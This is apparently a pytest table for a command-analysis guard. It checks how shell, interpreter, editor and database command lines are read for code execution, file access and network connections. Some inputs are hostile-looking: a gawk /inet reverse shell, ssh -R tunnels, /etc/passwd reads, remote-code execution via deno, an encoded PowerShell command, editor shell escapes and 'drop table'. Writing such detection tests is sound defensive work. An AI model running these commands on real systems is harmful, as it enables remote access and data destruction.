"""Code for shells, interpreters, editors and databases, by a table."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guard.parse.reading import UNKNOWN

# A line -> its reading in brief; `*?*` in the line stands for a piece that nobody knows.
TABLE: dict[str, list[str]] = {
    "bash -c 'ssh h' zero one": ["run [bash -c]: <sh> ssh h"],
    "bash -lic 'ssh h'": ["run [bash -c]: <sh> ssh h"],
    "bash -c *?*": ["? high unknown_code"],
    "bash x.sh -x": ["code sh file x.sh", "? medium unread_file"],
    "bash --rcfile /tmp/rc -i": ["code sh file /tmp/rc", "? medium unread_file"],
    "bash -i": [],
    "bash --version": [],
    "zsh -c 'ssh h'": ["run [zsh -c]: <sh> ssh h"],
    "fish -c 'ssh h'": ["? medium foreign_syntax", "run [fish -c]: <sh> ssh h"],
    "dash -s a b": [],
    "python -c 'print(1)' -R": ["run [python -c]: <python> print(1)"],
    "python -Im http.server 9000 --bind 127.0.0.1": [
        "code python file",
        "listen http 127.0.0.1:9000",
    ],
    "python -m pip install requests": ["code python file", "run [python -m]: pip install requests"],
    "python -m pytest -q": ["code python file"],
    "python -m mypackage.tool": ["code python file", "? low unread_file"],
    "python -m pdb -c 'import os' x.py": [
        "code python file",
        "run [python -m]: <python> import os",
        "run [python -m]: python x.py",
    ],
    "python -m cProfile -o out x.py": ["code python file", "run [python -m]: python x.py"],
    "python -W ignore -X dev x.py --flag": ["code python file x.py", "? medium unread_file"],
    "python --version": [],
    "python -": [],
    "perl -ne 'print' f": ["read f", "run [perl -e]: <perl> print"],
    "perl -i.bak -pe 's/a/b/' f g": [
        *("read f", "read g", "write f", "write f.bak", "write g", "write g.bak"),
        "run [perl -e]: <perl> s/a/b/",
    ],
    "perl -MIO::Socket -e 'x' -e 'y'": ["run [perl -e]: <perl> x\ny"],
    "perl x.pl": ["code perl file x.pl", "? medium unread_file"],
    "ruby -rsocket -e 'x'": ["run [ruby -e]: <ruby> x"],
    "ruby -r./evil -e 'x'": [
        "code ruby file evil",
        "? medium unread_file",
        "run [ruby -e]: <ruby> x",
    ],
    "node -e 'x' a": ["run [node -e]: <javascript> x"],
    "node -pe '1+1'": ["run [node -p]: <javascript> 1+1"],
    "node --require ./hook.js app.js": [
        "code javascript file hook.js",
        "code javascript file app.js",
        "? medium unread_file",
        "? medium unread_file",
    ],
    "node --version": [],
    "deno run -A https://example.org/x.ts": [
        "connect https example.org:443",
        "code javascript file",
        "? high unknown_code",
    ],
    "deno eval 'x'": ["run [deno eval]: <javascript> x"],
    "bun run dev": [],
    "bun -e 'x'": ["run [bun -e]: <javascript> x"],
    "php -r 'x'": ["run [php -r]: <php> x"],
    "php -S 0.0.0.0:8000 -t public": ["listen http :8000"],
    "lua -l socket -e 'x'": ["run [lua -e]: <lua> x"],
    "tclsh x.tcl": ["code tcl file x.tcl", "? medium unread_file"],
    "Rscript -e 'x'": ["run [Rscript -e]: <r> x"],
    "R -e 'x'": ["run [R -e]: <r> x"],
    "R CMD check .": [],
    "julia -e 'x'": ["run [julia -e]: <julia> x"],
    "osascript -e 'do shell script \"ssh h\"'": [
        'run [osascript -e]: <applescript> do shell script "ssh h"'
    ],
    "pwsh -NoProfile -Command ssh h": ["run [pwsh -c]: <powershell> ssh h"],
    "pwsh -enc cwBzAGgAIABoAA==": ["run [pwsh -c]: <powershell> ssh h"],
    "java -jar app.jar": ["code java file app.jar", "? medium unread_file"],
    "groovy -e 'x'": ["run [groovy -e]: <groovy> x"],
    "emacs --batch --eval '(x)'": ["run [emacs --eval]: <elisp> (x)"],
    "awk '{print $1}' f": ["read f"],
    "awk -F: -f p.awk /etc/passwd": [
        "code awk file p.awk",
        "read /etc/passwd",
        "? medium unread_file",
    ],
    "awk 'BEGIN{system(\"ssh -R \" p)}'": [
        "? medium unknown_argument",
        "run [awk system] may: <sh> ssh -R *",
    ],
    "awk '{system($0)}'": ["? high unknown_code"],
    "awk '{print > \"/tmp/\" $1}' f": ["read f", "write /tmp/*"],
    "awk '{print $1 >> \"/tmp/o\"}' f": ["read f", "append /tmp/o"],
    "awk 'BEGIN{s=\"/inet/tcp/0/h/99\"; while((s|&getline c)>0) while((c|&getline)>0) print |& s}'": [  # noqa: E501
        "connect tcp h:99",
        "shell reverse h:99 (gawk /inet)",
        "? high unknown_code",
    ],
    "awk '$1 > 3 && /a|b/ {n++} END{print n/2}' f": ["read f"],
    "sed -n '2,5p' f": ["read f"],
    "sed -i.bak 's/e/w x/g' f": ["read f", "write f", "write f.bak"],
    "sed 's/a/b/w out' f": ["read f", "write out"],
    "sed '1e ssh h' f": ["read f", "run [sed e] may: <sh> ssh h"],
    "sed 's/x/ssh h/e' f": [
        "read f",
        "code sh stdin",
        "? high unknown_code",
        "run [sed s///e] may: <sh> ssh h",
    ],
    "sed -f s.sed f": ["code sed file s.sed", "read f", "? medium unread_file"],
    "psql -h db -c '\\! ssh h'": ["connect postgresql db:5432", "run [psql \\!]: <sh> ssh h"],
    "sqlite3 x.db '.shell ssh h'": ["read x.db", "run [sqlite3 .shell]: <sh> ssh h"],
    "sqlite3 x.db 'select 1'": ["read x.db", "run [sqlite3]: <sql> select 1"],
    "mysql -h db -e 'drop table x'": ["connect mysql db:3306", "run [mysql]: <sql> drop table x"],
    "vim -c ':!ssh h' f": ["read f", "write f", "run [vim :!]: <sh> ssh h"],
    "vim '+r !ssh h' +q": ["run [vim :r!]: <sh> ssh h"],
    "vim -es -c 'python3 import os' f": [
        "read f",
        "write f",
        "run [vim :python3]: <python> import os",
    ],
    "less '+!ssh h' f": ["read f", "run [less +!] may: <sh> ssh h"],
    "man -P 'ssh h' ls": ["run [man -P]: <sh> ssh h"],
    "jq . f.json": ["read f.json"],
}


@pytest.mark.parametrize("line", TABLE)
def test_code_is_found(line: str, told: Callable[..., list[str]]) -> None:
    """Inline code is handed on with its language; files are named and opaque."""
    assert told(line.replace("*?*", UNKNOWN)) == TABLE[line]
